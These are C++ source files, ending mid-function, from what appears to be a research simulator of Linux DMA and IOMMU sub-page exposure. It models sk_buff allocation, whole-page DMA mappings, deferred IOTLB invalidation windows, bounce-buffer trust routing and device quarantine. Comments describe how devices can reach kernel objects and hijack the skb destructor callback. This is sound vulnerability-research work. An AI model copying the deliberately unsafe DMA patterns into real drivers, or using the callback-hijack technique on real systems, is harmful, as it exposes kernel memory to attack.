  Result<uint32_t> PostTx(SkBuffPtr skb);

  // Device signalled completion: unmap everything and hand the skb back for
  // release.
  Result<SkBuffPtr> CompleteTx(uint32_t index);

  // TX watchdog: slots pending longer than tx_timeout_cycles are flushed; the
  // count of resets is reported (a failed-to-appear completion "triggers a TX
  // T/O error that flushes all buffers and resets the driver", §5.4).
  uint32_t CheckTxTimeout();

  // ---- Introspection -----------------------------------------------------------

  DeviceId device_id() const { return device_id_; }
  const Config& config() const { return config_; }
  uint32_t rx_buffer_bytes() const;  // truesize of one RX buffer
  uint64_t rx_ring_memory_bytes() const {
    return uint64_t{config_.rx_ring_size} * rx_buffer_bytes();
  }
  std::optional<Kva> RxSlotKva(uint32_t index) const;
  std::optional<Iova> RxSlotIova(uint32_t index) const;
  uint32_t pending_tx() const;
  uint64_t rx_packets() const { return rx_packets_; }
  uint64_t tx_packets() const { return tx_packets_; }
  uint32_t tx_resets() const { return tx_resets_; }

 private:
  struct RxSlot {
    bool posted = false;
    Kva head;
    Iova iova;  // of head
  };
  struct TxFragMapping {
    Iova iova;
    Kva kva;
    uint32_t len;
  };
  struct TxSlot {
    bool busy = false;
    SkBuffPtr skb;
    Iova linear_iova;
    uint32_t linear_len = 0;
    std::vector<TxFragMapping> frags;
    uint64_t post_cycle = 0;
  };

  Status RefillSlot(uint32_t index);
  Status UnmapTxSlot(TxSlot& slot);

  DeviceId device_id_;
  dma::DmaApi& dma_;
  dma::KernelMemory& kmem_;
  SkbAllocator& skb_alloc_;
  SimClock& clock_;
  Config config_;
  NicDeviceModel* device_ = nullptr;

  std::vector<RxSlot> rx_ring_;
  std::vector<TxSlot> tx_ring_;
  XdpProgram* xdp_program_ = nullptr;
  uint64_t rx_packets_ = 0;
  uint64_t tx_packets_ = 0;
  uint64_t xdp_drops_ = 0;
  uint64_t xdp_tx_ = 0;
  uint32_t tx_resets_ = 0;
};

}  // namespace spv::net

#endif  // SPV_NET_NIC_DRIVER_H_
