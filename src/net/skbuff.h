// sk_buff model and allocation APIs (§5.1).
//
// As in Linux, the SkBuff struct itself lives host-side ("never intentionally
// mapped to the device") while its *data buffer* — including the trailing
// skb_shared_info — lives in simulated physical memory. The three allocation
// paths reproduce the three exposure mechanisms:
//
//   * NetdevAllocSkb: data from a per-CPU page_frag pool (type (c): the page
//     is shared with neighbouring RX buffers and mapped by multiple IOVAs).
//   * BuildSkb: wraps a driver-owned, typically already-DMA-mapped buffer,
//     embedding skb_shared_info inside the I/O region (type (b)).
//   * AllocSkb: data from kmalloc (type (d): page shared with arbitrary
//     same-size-class kernel objects).

#ifndef SPV_NET_SKBUFF_H_
#define SPV_NET_SKBUFF_H_

#include <cstdint>
#include <memory>
#include <unordered_map>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "dma/kernel_memory.h"
#include "net/layouts.h"
#include "slab/page_frag.h"
#include "slab/slab_allocator.h"

namespace spv::net {

enum class BufSource : uint8_t { kPageFrag, kKmalloc, kExternal };

struct OwnedBuffer {
  Kva kva;
  BufSource source = BufSource::kExternal;
  CpuId cpu;  // owning page_frag pool for kPageFrag
};

struct SkBuff {
  uint64_t id = 0;
  Kva head;  // buffer start
  Kva data;  // payload start (headroom skipped)
  Kva end;   // skb_shared_info location
  uint32_t len = 0;       // total payload bytes (linear + frags)
  uint32_t data_len = 0;  // bytes held in frags
  uint64_t truesize = 0;

  PacketHeader header;
  bool header_parsed = false;

  OwnedBuffer linear;                      // the head/data buffer
  std::vector<OwnedBuffer> frag_buffers;   // buffers owned through frags[]

  uint32_t linear_len() const { return len - data_len; }
  Kva shared_info() const { return end; }
  uint64_t headroom() const { return data - head; }
};

using SkBuffPtr = std::unique_ptr<SkBuff>;

// The CPU jumping through a function pointer (e.g. the skb destructor). The
// attack module plugs in an NX-enforcing mini-CPU; tests can plug recorders.
class CallbackInvoker {
 public:
  virtual ~CallbackInvoker() = default;
  // `function` is the callback KVA; `arg` the pointer passed in %rdi (the
  // containing ubuf_info, per Fig 4 / §6).
  virtual Status InvokeCallback(Kva function, Kva arg) = 0;
};

class SkbAllocator {
 public:
  SkbAllocator(dma::KernelMemory& kmem, slab::SlabAllocator& slab);

  SkbAllocator(const SkbAllocator&) = delete;
  SkbAllocator& operator=(const SkbAllocator&) = delete;

  // Registers the page_frag pool serving `cpu` (drivers have one per RX ring).
  void RegisterFragPool(CpuId cpu, slab::PageFragPool* pool);
  slab::PageFragPool* frag_pool(CpuId cpu);

  // DAMN (Markuze et al. [49]): a DMA-aware allocator dedicated to network
  // buffers. When set, AllocSkb (the TX path) draws from this pool instead of
  // kmalloc, so I/O buffers never share pages with kernel objects — closing
  // the type (d) leak, though skb_shared_info still rides inside the buffer
  // (the §9 caveat).
  static constexpr CpuId kDamnPoolCpu{0xda30};
  void set_damn_pool(slab::PageFragPool* pool);
  slab::PageFragPool* damn_pool() { return damn_pool_; }

  // netdev_alloc_skb: page_frag-backed data buffer with NET_SKB_PAD headroom
  // and skb_shared_info at the tail.
  Result<SkBuffPtr> NetdevAllocSkb(CpuId cpu, uint32_t len, std::string_view site);

  // __alloc_skb: kmalloc-backed (TCP TX path).
  Result<SkBuffPtr> AllocSkb(uint32_t len, std::string_view site);

  // build_skb: wrap an existing `frag_size`-byte buffer at `head`; places and
  // initializes skb_shared_info inside it. Ownership of the buffer is
  // whatever the caller says it is.
  Result<SkBuffPtr> BuildSkb(Kva head, uint32_t frag_size, OwnedBuffer ownership);

  // How many bytes NetdevAllocSkb really allocates for an `len`-byte packet.
  static uint64_t TruesizeFor(uint32_t len) {
    return SkbDataAlign(kNetSkbPad + len) + SkbDataAlign(SharedInfoLayout::kSize);
  }

  // skb_clone (§5.1): new sk_buff metadata sharing the same data buffer;
  // bumps dataref in the in-memory shared_info. The clone does not own the
  // buffers — the last FreeSkb (dataref -> 0) releases them.
  Result<SkBuffPtr> CloneSkb(const SkBuff& skb);

  // kfree_skb/consume_skb: drops a dataref; on the last reference runs the
  // shared-info destructor callback (if any) through `invoker`, then releases
  // the data buffer(s).
  Status FreeSkb(SkBuffPtr skb, CallbackInvoker* invoker);

  // Adds a frag to `skb` (GRO and zero-copy TX paths): records it in the
  // in-memory shared_info and takes ownership of `buffer` if provided.
  Status AddFrag(SkBuff& skb, const FragRef& frag, std::optional<OwnedBuffer> buffer);

  dma::KernelMemory& kmem() { return kmem_; }

  uint64_t skbs_allocated() const { return next_id_ - 1; }
  uint64_t skbs_freed() const { return skbs_freed_; }

 private:
  Status ReleaseBuffer(const OwnedBuffer& buffer);

  dma::KernelMemory& kmem_;
  slab::SlabAllocator& slab_;
  std::unordered_map<uint32_t, slab::PageFragPool*> frag_pools_;
  slab::PageFragPool* damn_pool_ = nullptr;
  uint64_t next_id_ = 1;
  uint64_t skbs_freed_ = 0;
};

}  // namespace spv::net

#endif  // SPV_NET_SKBUFF_H_
