#include "dma/kernel_memory.h"

#include <vector>

namespace spv::dma {

Result<PhysAddr> KernelMemory::Translate(Kva kva, uint64_t len, bool is_write) const {
  Result<PhysAddr> phys = layout_.DirectMapKvaToPhys(kva);
  if (!phys.ok()) {
    return phys.status();
  }
  // const_cast-free design would thread mutability; the hook is logically
  // non-mutating from the caller's perspective.
  const_cast<DmaApi&>(dma_).NotifyCpuAccess(kva, len, is_write);
  return phys;
}

Result<uint64_t> KernelMemory::ReadU64(Kva kva) const {
  Result<PhysAddr> phys = Translate(kva, 8, false);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.ReadU64(*phys);
}

Result<uint32_t> KernelMemory::ReadU32(Kva kva) const {
  Result<PhysAddr> phys = Translate(kva, 4, false);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.ReadU32(*phys);
}

Result<uint16_t> KernelMemory::ReadU16(Kva kva) const {
  Result<PhysAddr> phys = Translate(kva, 2, false);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.ReadU16(*phys);
}

Result<uint8_t> KernelMemory::ReadU8(Kva kva) const {
  Result<PhysAddr> phys = Translate(kva, 1, false);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.ReadU8(*phys);
}

Status KernelMemory::WriteU64(Kva kva, uint64_t value) {
  Result<PhysAddr> phys = Translate(kva, 8, true);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.WriteU64(*phys, value);
}

Status KernelMemory::WriteU32(Kva kva, uint32_t value) {
  Result<PhysAddr> phys = Translate(kva, 4, true);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.WriteU32(*phys, value);
}

Status KernelMemory::WriteU16(Kva kva, uint16_t value) {
  Result<PhysAddr> phys = Translate(kva, 2, true);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.WriteU16(*phys, value);
}

Status KernelMemory::WriteU8(Kva kva, uint8_t value) {
  Result<PhysAddr> phys = Translate(kva, 1, true);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.WriteU8(*phys, value);
}

Status KernelMemory::Read(Kva kva, std::span<uint8_t> out) const {
  Result<PhysAddr> phys = Translate(kva, out.size(), false);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.Read(*phys, out);
}

Status KernelMemory::Write(Kva kva, std::span<const uint8_t> data) {
  Result<PhysAddr> phys = Translate(kva, data.size(), true);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.Write(*phys, data);
}

Status KernelMemory::Fill(Kva kva, uint64_t len, uint8_t byte) {
  Result<PhysAddr> phys = Translate(kva, len, true);
  if (!phys.ok()) {
    return phys.status();
  }
  return pm_.Fill(*phys, len, byte);
}

Status KernelMemory::Copy(Kva dst, Kva src, uint64_t len) {
  std::vector<uint8_t> buf(len);
  SPV_RETURN_IF_ERROR(Read(src, std::span<uint8_t>(buf)));
  return Write(dst, std::span<const uint8_t>(buf));
}

}  // namespace spv::dma
