// The Linux DMA API (§2.3, §9.1), faithfully including its footguns.
//
// * MapSingle(kva, len) maps every page the buffer touches. The API
//   "insinuates that only the mapped bytes are exposed, when, in fact, the
//   whole page is accessible" — the insinuation is the signature; the
//   exposure is what this layer actually does.
// * UnmapSingle "insinuates that the buffer is not accessible to the device
//   after the call" — false in the configuration that actually ships.
//   Under the default deferred-invalidation policy the PTE is cleared but
//   the invalidation is only *queued*: the IOTLB keeps translating until the
//   flush queue drains (at capacity, after the 10 ms deadline, or manually),
//   so a device with a warm IOTLB entry retains access for the whole window
//   (Fig 6). The IOVA is parked until that drain, then recycled through the
//   per-CPU rcache. Only strict mode revokes access before returning. It is
//   also false under type (c) aliasing, in any mode.
//
// Ownership semantics: a mapped buffer belongs to the device until unmapped.
// The tracker records every live mapping so D-KASAN and the ground-truth
// analyses can ask "which mappings cover this page?".

#ifndef SPV_DMA_DMA_API_H_
#define SPV_DMA_DMA_API_H_

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "base/maybe_mutex.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/mapping_index.h"
#include "dma/observer.h"
#include "iommu/iommu.h"
#include "mem/kernel_layout.h"
#include "telemetry/telemetry.h"
#include "trace/tracer.h"

namespace spv::forensics {
class FlightRecorder;  // forensics/flight_recorder.h
}

namespace spv::dma {

class DmaRouter;   // dma/bounce_pool.h
class BouncePool;  // dma/bounce_pool.h

// Matches enum dma_data_direction.
enum class DmaDirection : uint8_t {
  kToDevice,       // TX: device reads -> IOMMU READ
  kFromDevice,     // RX: device writes -> IOMMU WRITE
  kBidirectional,  // e.g. XDP -> IOMMU READ|WRITE
};

iommu::AccessRights RightsFor(DmaDirection dir);
std::string DmaDirectionName(DmaDirection dir);

// How a device's DMA is serviced, per the trust policy's verdict. The mode is
// advisory routing for queue-protocol drivers: MapSingle's per-map bounce
// diversion is unchanged, but drivers that keep *persistent* ring mappings
// ask `DmaApi::service_mode()` and switch protocol accordingly.
enum class ServiceMode : uint8_t {
  kZeroCopy,         // direct mappings, device sees kernel pages (trusted)
  kBounceSync,       // persistent bounce slots + explicit sync_for_cpu/device
  kBounceTransient,  // per-transfer bounce map/unmap (PR 8 behaviour)
};

std::string_view ServiceModeName(ServiceMode mode);

struct DmaMapping {
  DeviceId device;
  Iova iova;       // of the buffer start (page base + sub-page offset)
  Kva kva;         // buffer start
  uint64_t len;    // requested length, NOT the exposed length
  DmaDirection dir;
  std::string site;

  uint64_t pages() const { return ((kva.page_offset() + len + kPageSize - 1) >> kPageShift); }
  uint64_t exposed_bytes() const { return pages() << kPageShift; }
};

struct SgEntry {
  Kva kva;
  uint64_t len;
};

class DmaApi {
 public:
  // When `hub` is null the DmaApi lazily owns a private (disabled) Hub so
  // observer dispatch always flows through one bus; core::Machine passes its
  // machine-wide Hub here instead.
  DmaApi(iommu::Iommu& iommu, const mem::KernelLayout& layout,
         telemetry::Hub* hub = nullptr);
  virtual ~DmaApi() = default;

  DmaApi(const DmaApi&) = delete;
  DmaApi& operator=(const DmaApi&) = delete;

  // dma_map_single: maps [kva, kva+len) for `device`; returns the IOVA
  // corresponding to `kva` (same sub-page offset). Virtual so alternative
  // backends (bounce buffers, §8 [47]) can replace the zero-copy path.
  virtual Result<Iova> MapSingle(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                                 std::string_view site = "dma_map_single");

  // dma_unmap_single: releases the mapping created for this IOVA.
  virtual Status UnmapSingle(DeviceId device, Iova iova, uint64_t len, DmaDirection dir);

  // Persistent-mapping variant for ring/slot buffers that live across many
  // I/Os (SQ/CQ rings, RX slots). For trusted devices this is MapSingle with
  // a different name — byte-identical zero-copy path. For bounce-routed
  // devices it carves a *persistent* pool run the driver then hands back and
  // forth with SyncSingleForCpu/SyncSingleForDevice (swiotlb-style), instead
  // of the transient map/copy/unmap cycle. Released with UnmapSingle.
  Result<Iova> MapPersistent(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                             std::string_view site = "dma_map_persistent");

  // The trust policy's service-mode verdict for `device` (kZeroCopy when no
  // policy is installed). Queue-protocol drivers poll this to pick their ring
  // protocol and to notice live demotions/promotions.
  ServiceMode service_mode(DeviceId device) const;

  // dma_sync_single_for_cpu / _for_device: ownership handoff without
  // unmapping. Drivers with persistent RX mappings (real i40e page reuse)
  // call these instead of unmap — which means the device NEVER loses access
  // to the page, in any IOMMU mode. Functionally a no-op in our coherent
  // simulation, but it validates the mapping and feeds the sanitizer.
  Status SyncSingleForCpu(DeviceId device, Iova iova, uint64_t len, DmaDirection dir);
  Status SyncSingleForDevice(DeviceId device, Iova iova, uint64_t len, DmaDirection dir);

  // Quarantine support (spv::recovery): unmaps every live mapping tracked for
  // `device` — IOMMU first (PTEs cleared, invalidations issued per the active
  // mode), then the tracker entry, with a kDmaUnmap event per mapping tagged
  // `site`. Returns the number of mappings revoked. Safe on a fenced device
  // (OS-side unmaps are exempt from the fence).
  Result<uint64_t> RevokeDeviceMappings(DeviceId device,
                                        std::string_view site = "dma_revoke_device");

  // dma_map_sg / dma_unmap_sg: each entry mapped independently (we model the
  // common non-IOVA-merging path).
  Result<std::vector<Iova>> MapSg(DeviceId device, std::span<const SgEntry> entries,
                                  DmaDirection dir, std::string_view site = "dma_map_sg");
  Status UnmapSg(DeviceId device, std::span<const Iova> iovas,
                 std::span<const SgEntry> entries, DmaDirection dir);

  // ---- Introspection ---------------------------------------------------------

  // Live mappings (by any device) that cover physical page `pfn`.
  std::vector<DmaMapping> MappingsForPfn(Pfn pfn) const;
  std::optional<DmaMapping> FindMapping(DeviceId device, Iova iova) const;
  // Visits every live mapping in ascending (device, iova) order regardless of
  // which tracker store is active. For audits (Machine::CheckInvariants).
  void ForEachMapping(const std::function<void(const DmaMapping&)>& fn) const;
  uint64_t live_mappings() const {
    std::lock_guard<MaybeMutex> guard(mu_);
    return use_hash_index_ ? index_.size() : by_iova_.size();
  }

  // Engages the tracker lock for ExecMode::kThreads (one-way, pre-
  // concurrency). Only the mapping tracker needs it — the IOMMU beneath has
  // its own engaged locks, and observer sinks dispatch on the Hub drainer.
  void EngageLock() { mu_.Engage(); }

  // The CPU the simulated kernel runs map/unmap calls on; forwarded to the
  // IOMMU so IOVA magazine traffic lands in that CPU's caches.
  void set_current_cpu(CpuId cpu) { iommu_.set_current_cpu(cpu); }
  CpuId current_cpu() const { return iommu_.current_cpu(); }

  // Trust-policy routing (spv::policy): with both installed, MapSingle asks
  // `router` per map and diverts flagged devices' transfers through `pool`
  // instead of handing out direct mappings; unmap/sync recognise pool IOVAs
  // first, so in-flight bounces survive a mid-stream trust change. Either
  // nullptr disables routing entirely — one branch on the hot path, no
  // simulated-cycle cost for trusted devices.
  void set_policy(DmaRouter* router, BouncePool* pool) {
    router_ = router;
    bounce_pool_ = pool;
  }
  BouncePool* bounce_pool() { return bounce_pool_; }

  // Observers are bridged onto the telemetry bus (one DmaObserverSink each);
  // the interface is unchanged for callers.
  void AddObserver(DmaObserver* observer);
  void RemoveObserver(DmaObserver* observer);

  // Fired by KernelMemory on every CPU access (KASAN-instrumentation model).
  void NotifyCpuAccess(Kva kva, uint64_t len, bool is_write);

  // The bus every dma event is published to.
  telemetry::Hub& telemetry();

  // Optional causal span tracer (map/unmap lifecycle spans): nullptr
  // detaches; a null or disabled tracer costs one branch per operation.
  void set_tracer(trace::Tracer* tracer) { tracer_ = tracer; }
  trace::Tracer* tracer() { return tracer_; }

  // DMA flight recorder (spv::forensics): records every mapping lifecycle
  // edge (map/unmap, direct and bounced) for incident reconstruction. Pure
  // observer — never advances the sim clock; nullptr detaches.
  void set_flight_recorder(forensics::FlightRecorder* recorder) { recorder_ = recorder; }

  const mem::KernelLayout& layout() const { return layout_; }
  iommu::Iommu& iommu() { return iommu_; }

 private:
  struct IovaKey {
    uint32_t device;
    uint64_t iova_page;
    bool operator<(const IovaKey& other) const {
      return std::tie(device, iova_page) < std::tie(other.device, other.iova_page);
    }
  };

  void Notify(const DmaMapping& mapping, bool map);

  // The mapping tracker behind MapSingle/UnmapSingle/FindMapping. Which
  // store is live is fixed at construction from the IOMMU's FastPathConfig;
  // both have identical observable semantics.
  void TrackMapping(const IovaKey& key, const DmaMapping& mapping);
  const DmaMapping* LookupMapping(const IovaKey& key) const;
  void ForgetMapping(const IovaKey& key);

  iommu::Iommu& iommu_;
  const mem::KernelLayout& layout_;
  bool use_hash_index_;
  // Guards the mapping tracker (index_ / by_iova_) when engaged; map/unmap
  // hold it only around tracker ops, never across IOMMU calls.
  mutable MaybeMutex mu_;
  MappingIndex<DmaMapping> index_;          // fast path: open-addressed, O(1)
  std::map<IovaKey, DmaMapping> by_iova_;   // slow path (hash_index_enabled=false)
  telemetry::Hub* hub_;
  std::unique_ptr<telemetry::Hub> owned_hub_;  // fallback when none injected
  trace::Tracer* tracer_ = nullptr;
  forensics::FlightRecorder* recorder_ = nullptr;
  DmaRouter* router_ = nullptr;       // trust policy's per-map verdict
  BouncePool* bounce_pool_ = nullptr; // where untrusted transfers divert
  std::vector<std::unique_ptr<DmaObserverSink>> observer_sinks_;
};

}  // namespace spv::dma

#endif  // SPV_DMA_DMA_API_H_
