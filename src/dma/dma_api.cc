#include "dma/dma_api.h"

#include <algorithm>
#include <mutex>

#include "dma/bounce_pool.h"
#include "forensics/flight_recorder.h"

namespace spv::dma {

iommu::AccessRights RightsFor(DmaDirection dir) {
  switch (dir) {
    case DmaDirection::kToDevice:
      return iommu::AccessRights::kRead;
    case DmaDirection::kFromDevice:
      return iommu::AccessRights::kWrite;
    case DmaDirection::kBidirectional:
      return iommu::AccessRights::kBidirectional;
  }
  return iommu::AccessRights::kNone;
}

std::string DmaDirectionName(DmaDirection dir) {
  switch (dir) {
    case DmaDirection::kToDevice:
      return "DMA_TO_DEVICE";
    case DmaDirection::kFromDevice:
      return "DMA_FROM_DEVICE";
    case DmaDirection::kBidirectional:
      return "DMA_BIDIRECTIONAL";
  }
  return "?";
}

std::string_view ServiceModeName(ServiceMode mode) {
  switch (mode) {
    case ServiceMode::kZeroCopy:
      return "zero_copy";
    case ServiceMode::kBounceSync:
      return "bounce_sync";
    case ServiceMode::kBounceTransient:
      return "bounce_transient";
  }
  return "?";
}

DmaApi::DmaApi(iommu::Iommu& iommu, const mem::KernelLayout& layout, telemetry::Hub* hub)
    : iommu_(iommu),
      layout_(layout),
      use_hash_index_(iommu.fast_path().hash_index_enabled),
      hub_(hub) {}

void DmaApi::TrackMapping(const IovaKey& key, const DmaMapping& mapping) {
  std::lock_guard<MaybeMutex> guard(mu_);
  if (use_hash_index_) {
    index_.InsertOrAssign(key.device, key.iova_page, mapping);
  } else {
    by_iova_[key] = mapping;
  }
}

const DmaMapping* DmaApi::LookupMapping(const IovaKey& key) const {
  if (use_hash_index_) {
    return index_.Find(key.device, key.iova_page);
  }
  auto it = by_iova_.find(key);
  return it == by_iova_.end() ? nullptr : &it->second;
}

void DmaApi::ForgetMapping(const IovaKey& key) {
  std::lock_guard<MaybeMutex> guard(mu_);
  if (use_hash_index_) {
    index_.Erase(key.device, key.iova_page);
  } else {
    by_iova_.erase(key);
  }
}

telemetry::Hub& DmaApi::telemetry() {
  if (hub_ == nullptr) {
    owned_hub_ = std::make_unique<telemetry::Hub>();
    hub_ = owned_hub_.get();
  }
  return *hub_;
}

Result<Iova> DmaApi::MapSingle(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                               std::string_view site) {
  trace::ScopedSpan span(tracer_, "dma.map_single");
  if (len == 0) {
    return InvalidArgument("dma_map_single with zero length");
  }
  // Trust gate: an untrusted device gets no direct mapping at all — its
  // transfer goes through dedicated bounce pages (whole-page exposure and
  // deferred-invalidation windows never arise on that path).
  if (router_ != nullptr && bounce_pool_ != nullptr && router_->ShouldBounce(device)) {
    Result<Iova> bounced = bounce_pool_->Map(device, kva, len, dir, site);
    if (recorder_ != nullptr && bounced.ok()) {
      recorder_->RecordMap(device, *bounced, kva, len, static_cast<uint8_t>(dir),
                           /*bounced=*/true, site);
    }
    return bounced;
  }
  Result<PhysAddr> phys = layout_.DirectMapKvaToPhys(kva);
  if (!phys.ok()) {
    return InvalidArgument("dma_map_single of non-direct-map KVA");
  }
  // The mapping covers *every page the buffer touches*, not just the bytes.
  const uint64_t pages = (kva.page_offset() + len + kPageSize - 1) >> kPageShift;
  std::vector<Pfn> pfns;
  pfns.reserve(pages);
  for (uint64_t i = 0; i < pages; ++i) {
    pfns.push_back(Pfn{phys->pfn().value + i});
  }
  Result<Iova> base = iommu_.MapRange(device, pfns, RightsFor(dir));
  if (!base.ok()) {
    return base.status();
  }
  const Iova iova = *base + kva.page_offset();
  DmaMapping mapping{device, iova, kva, len, dir, std::string(site)};
  TrackMapping(IovaKey{device.value, base->value >> kPageShift}, mapping);
  if (recorder_ != nullptr) {
    recorder_->RecordMap(device, iova, kva, len, static_cast<uint8_t>(dir),
                         /*bounced=*/false, site);
  }
  Notify(mapping, /*map=*/true);
  return iova;
}

Result<Iova> DmaApi::MapPersistent(DeviceId device, Kva kva, uint64_t len,
                                   DmaDirection dir, std::string_view site) {
  // Bounce-routed devices get a *persistent* pool run: the driver keeps the
  // slot across many I/Os and moves bytes with the syncs, swiotlb-style.
  if (router_ != nullptr && bounce_pool_ != nullptr && router_->ShouldBounce(device)) {
    trace::ScopedSpan span(tracer_, "dma.map_persistent");
    if (len == 0) {
      return InvalidArgument("dma_map_persistent with zero length");
    }
    Result<Iova> bounced = bounce_pool_->MapPersistent(device, kva, len, dir, site);
    if (recorder_ != nullptr && bounced.ok()) {
      recorder_->RecordMap(device, *bounced, kva, len, static_cast<uint8_t>(dir),
                           /*bounced=*/true, site);
    }
    return bounced;
  }
  // Trusted devices: exactly the zero-copy MapSingle path (same site, same
  // telemetry), so nothing changes for them observably.
  return MapSingle(device, kva, len, dir, site);
}

ServiceMode DmaApi::service_mode(DeviceId device) const {
  if (router_ == nullptr || bounce_pool_ == nullptr) {
    return ServiceMode::kZeroCopy;
  }
  return router_->ServiceModeFor(device);
}

Status DmaApi::UnmapSingle(DeviceId device, Iova iova, uint64_t len, DmaDirection dir) {
  trace::ScopedSpan span(tracer_, "dma.unmap_single");
  // Pool IOVAs first: the mapping may predate a trust promotion, so the
  // router's *current* verdict must not decide where the unmap goes.
  if (bounce_pool_ != nullptr && bounce_pool_->Owns(device, iova)) {
    Status status = bounce_pool_->Unmap(device, iova, len, dir);
    if (recorder_ != nullptr && status.ok()) {
      recorder_->RecordUnmap(device, iova, len, static_cast<uint8_t>(dir),
                             /*bounced=*/true);
    }
    return status;
  }
  const IovaKey key{device.value, iova.PageBase().value >> kPageShift};
  DmaMapping mapping;
  {
    std::lock_guard<MaybeMutex> guard(mu_);
    const DmaMapping* found = LookupMapping(key);
    if (found == nullptr) {
      return FailedPrecondition("dma_unmap_single of unmapped IOVA");
    }
    mapping = *found;
  }
  if (mapping.len != len || mapping.dir != dir) {
    return InvalidArgument("dma_unmap_single with mismatched length or direction");
  }
  // Unmap in the IOMMU first: if that fails the tracker must still know the
  // mapping, or the IOVA range and its PTEs leak with no record of them.
  SPV_RETURN_IF_ERROR(iommu_.UnmapRange(device, iova.PageBase(), mapping.pages()));
  ForgetMapping(key);
  if (recorder_ != nullptr) {
    recorder_->RecordUnmap(device, iova, len, static_cast<uint8_t>(dir),
                           /*bounced=*/false);
  }
  Notify(mapping, /*map=*/false);
  return OkStatus();
}

Result<uint64_t> DmaApi::RevokeDeviceMappings(DeviceId device, std::string_view site) {
  trace::ScopedSpan span(tracer_, "dma.revoke_device");
  // Snapshot first: unmapping mutates the tracker under iteration otherwise.
  std::vector<DmaMapping> victims;
  ForEachMapping([&](const DmaMapping& mapping) {
    if (mapping.device.value == device.value) {
      victims.push_back(mapping);
    }
  });
  uint64_t revoked = 0;
  for (DmaMapping mapping : victims) {
    mapping.site = std::string(site);
    SPV_RETURN_IF_ERROR(iommu_.UnmapRange(device, mapping.iova.PageBase(), mapping.pages()));
    ForgetMapping(IovaKey{device.value, mapping.iova.PageBase().value >> kPageShift});
    if (recorder_ != nullptr) {
      recorder_->RecordUnmap(device, mapping.iova, mapping.len,
                             static_cast<uint8_t>(mapping.dir), /*bounced=*/false);
    }
    Notify(mapping, /*map=*/false);
    ++revoked;
  }
  // In-flight bounces are dropped without copy-out: the device is suspect,
  // so whatever it wrote into the dedicated pages is discarded.
  if (bounce_pool_ != nullptr) {
    revoked += bounce_pool_->ReleaseAll(device);
  }
  return revoked;
}

Status DmaApi::SyncSingleForCpu(DeviceId device, Iova iova, uint64_t len, DmaDirection dir) {
  if (bounce_pool_ != nullptr && bounce_pool_->Owns(device, iova)) {
    Status status = bounce_pool_->SyncForCpu(device, iova, len, dir);
    if (recorder_ != nullptr && status.ok()) {
      recorder_->RecordSync(device, iova, len, static_cast<uint8_t>(dir),
                            /*for_cpu=*/true, /*bounced=*/true);
    }
    return status;
  }
  std::optional<DmaMapping> mapping = FindMapping(device, iova);
  if (!mapping.has_value() || mapping->dir != dir || mapping->len < len) {
    return FailedPrecondition("dma_sync_single_for_cpu on invalid mapping");
  }
  // CPU takes ownership of the bytes; the translation stays live.
  telemetry::Hub& hub = telemetry();
  if (hub.active()) {
    telemetry::Event event;
    event.kind = telemetry::EventKind::kDmaSync;
    event.severity = telemetry::Severity::kTrace;
    event.device = device.value;
    event.addr = mapping->kva.value;
    event.addr2 = iova.value;
    event.len = len;
    event.origin = this;
    event.site = "dma_sync_single_for_cpu";
    hub.Publish(std::move(event));
    if (hub.enabled()) {
      hub.counter("dma.syncs").Add();
    }
  }
  NotifyCpuAccess(mapping->kva, len, /*is_write=*/false);
  return OkStatus();
}

Status DmaApi::SyncSingleForDevice(DeviceId device, Iova iova, uint64_t len,
                                   DmaDirection dir) {
  if (bounce_pool_ != nullptr && bounce_pool_->Owns(device, iova)) {
    Status status = bounce_pool_->SyncForDevice(device, iova, len, dir);
    if (recorder_ != nullptr && status.ok()) {
      recorder_->RecordSync(device, iova, len, static_cast<uint8_t>(dir),
                            /*for_cpu=*/false, /*bounced=*/true);
    }
    return status;
  }
  std::optional<DmaMapping> mapping = FindMapping(device, iova);
  if (!mapping.has_value() || mapping->dir != dir || mapping->len < len) {
    return FailedPrecondition("dma_sync_single_for_device on invalid mapping");
  }
  return OkStatus();
}

Result<std::vector<Iova>> DmaApi::MapSg(DeviceId device, std::span<const SgEntry> entries,
                                        DmaDirection dir, std::string_view site) {
  trace::ScopedSpan span(tracer_, "dma.map_sg");
  std::vector<Iova> iovas;
  iovas.reserve(entries.size());
  for (const SgEntry& entry : entries) {
    Result<Iova> iova = MapSingle(device, entry.kva, entry.len, dir, site);
    if (!iova.ok()) {
      // Roll back the partial list.
      for (size_t i = 0; i < iovas.size(); ++i) {
        (void)UnmapSingle(device, iovas[i], entries[i].len, dir);
      }
      return iova.status();
    }
    iovas.push_back(*iova);
  }
  return iovas;
}

Status DmaApi::UnmapSg(DeviceId device, std::span<const Iova> iovas,
                       std::span<const SgEntry> entries, DmaDirection dir) {
  trace::ScopedSpan span(tracer_, "dma.unmap_sg");
  if (iovas.size() != entries.size()) {
    return InvalidArgument("dma_unmap_sg with mismatched list sizes");
  }
  for (size_t i = 0; i < iovas.size(); ++i) {
    SPV_RETURN_IF_ERROR(UnmapSingle(device, iovas[i], entries[i].len, dir));
  }
  return OkStatus();
}

std::vector<DmaMapping> DmaApi::MappingsForPfn(Pfn pfn) const {
  std::lock_guard<MaybeMutex> guard(mu_);
  std::vector<DmaMapping> out;
  const auto collect = [&](const DmaMapping& mapping) {
    auto phys = layout_.DirectMapKvaToPhys(mapping.kva);
    if (!phys.ok()) {
      return;
    }
    const uint64_t first = phys->pfn().value;
    const uint64_t last = first + mapping.pages() - 1;
    if (pfn.value >= first && pfn.value <= last) {
      out.push_back(mapping);
    }
  };
  if (use_hash_index_) {
    index_.ForEach(collect);
